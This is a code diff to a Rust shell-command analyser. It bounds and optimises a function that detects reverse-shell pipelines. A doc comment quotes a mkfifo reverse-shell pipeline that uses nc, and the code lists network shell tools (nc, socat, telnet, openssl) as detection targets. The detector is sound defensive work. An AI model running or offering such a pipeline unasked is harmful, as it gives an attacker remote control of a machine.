@@ -1097,14 +1097,25 @@ pub(super) fn interpreter(name: &str, args: &[Word], out: &mut Effects, raw: &st
 /// A pipeline where a shell reads its program from a network connection (`mkfifo` reverse
 /// shells: `cat f | sh -i | nc host port > f`).
 pub(super) fn reverse_shell_pipelines(a: &Analysis, out: &mut Effects) {
+    // Bounded: each check compares two commands, so only the first few of each kind.
+    let nets: Vec<&Command> = a
+        .commands
+        .iter()
+        .filter(|c| {
+            ["nc", "ncat", "netcat", "socat", "telnet", "openssl"].contains(&c.name().as_str())
+        })
+        .take(64)
+        .collect();
+    if nets.is_empty() {
+        return;
+    }
     for shell in a
         .commands
         .iter()
         .filter(|c| c.runs_stdin || SHELLS.contains(&c.name().as_str()))
+        .take(64)
     {
-        for net in a.commands.iter().filter(|c| {
-            ["nc", "ncat", "netcat", "socat", "telnet", "openssl"].contains(&c.name().as_str())
-        }) {
+        for net in &nets {
             let same_pipeline = shell
                 .pipes
                 .iter()
